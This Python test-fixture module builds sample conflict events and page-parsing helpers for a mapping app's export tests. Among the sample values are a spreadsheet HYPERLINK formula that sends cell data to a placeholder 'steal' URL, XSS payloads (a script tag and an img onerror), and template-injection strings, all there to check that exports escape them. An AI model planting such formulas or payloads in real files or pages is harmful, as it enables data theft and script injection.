"""Events with every awkward value an export must carry, and page helpers for the export tests."""

from __future__ import annotations

import datetime as dt
import json
import re

from geoapp.model import Event, RelatedPlace

KURSK = "RUS-2362"
#: Text a spreadsheet would run, and text a browser (or a template engine) would run.
FORMULA = '=HYPERLINK("http://example.invalid/steal?d="&A1,"click me")'
SCRIPT = "<script>alert('owned')</script></script><img src=x onerror=alert(1)>"
TEMPLATE = "{{ 7*7 }} {% if true %}x{% endif %} {# c #}"
AWKWARD = 'quote "inside", back\\slash, tab\tnew\nline, nul-ish \x01, emoji 🚀, sep\u2028, Суджа'


def awkward_events() -> list[Event]:
    """Eight events covering the shapes exports must get right."""
    day = dt.date(2024, 12, 1)
    base = dict(event_type="attack", date_start=day, date_end=day, country="RU",
                source_name="Test source", source_kind="media")
    return [
        Event(event_id="t:exact", lon=35.27, lat=51.19, adm1_code=KURSK, admin1="Kursk",
              location_text="Sudzha", place_name="Sudzha", quote=AWKWARD, notes=FORMULA,
              killed_low=3, killed_high=3, killed_best=3, source_url="https://example.org/a?b=1&c=2",
              **base),
        Event(event_id="t:region", lon=36.1, lat=51.6, adm1_code=KURSK, admin1="Kursk",
              geo_precision="region", event_type="casualty_report", casualties_low=200,
              casualties_high=999, figures_text="several hundred killed or wounded",
              date_precision="month", date_end=dt.date(2024, 12, 23), notes=SCRIPT, quote=TEMPLATE,
              **{k: v for k, v in base.items() if k not in ("event_type", "date_end")}),
        Event(event_id="t:nowhere", location_text="somewhere unnamed", geo_precision="country",
              event_type="unit_sighting", notes=SCRIPT, quote=TEMPLATE, **{
                  k: v for k, v in base.items() if k != "event_type"}),
        Event(event_id="t:west", lon=-3.703790, lat=40.416775, country="ES", notes="-5 degrees",
              quote="+1 more", actor1="@handle", killed_low=101, tags=("a;b", "c"),
              related_places=(RelatedPlace(role="origin", name="North Korea", country="KP",
                                           lon=127.0, lat=40.0),),
              **{k: v for k, v in base.items() if k != "country"}),
        Event(event_id="t:unreviewed", lon=35.0, lat=51.0, status="unreviewed", **base),
        Event(event_id="acled:UKR1234", lon=37.8, lat=48.0, country="UA", event_type="attack",
              sub_type="Shelling/artillery/missile attack", date_start=day, date_end=day,
              source_name="ACLED", source_kind="dataset", quote="Shelling hit the town.",
              notes="Shelling hit the town. [sources: Kyiv Independent]", killed_low=2,
              killed_high=2, killed_best=2, tags=("front",)),
        Event(event_id="ucdp:1", lon=37.5, lat=48.1, country="UA", event_type="attack",
              date_start=dt.date(2024, 11, 30), date_end=dt.date(2024, 12, 2),
              source_name="UCDP GED", source_kind="dataset", killed_low=1, killed_high=4,
              killed_best=2, flags=("location 'x' not found",)),
        Event(event_id="t:a-first", lon=35.5, lat=51.5, reported_date=dt.date(2024, 12, 23),
              count_low=11000, count_high=12000, count_unit="troops",
              **base),
    ]


def json_block(page: str, element_id: str):
    """The value of an HTML map's ``<script type="application/json" id=...>`` block."""
    match = re.search(rf'<script type="application/json" id="{element_id}">(.*?)</script>',
                      page, re.S)
    assert match, f"no {element_id} block"
    return json.loads(match.group(1))


def html_events(page: str) -> dict[str, dict]:
    """The HTML map's events by id: each marker's columns and popup text, as the page builds
    its features from the events layer's block."""
    block = json_block(page, "geoapp-layer-events")
    events = {}
    for i, event_id in enumerate(block["popup"]["id"]):
        props = {name: values[i] for name, values in block["columns"].items()}
        props |= {name: values[i] for name, values in block["popup"].items()}
        props |= {"date_start": block["date_start"][i], "lon": block["lon"][i], "lat": block["lat"][i]}
        events[event_id] = props
    return events
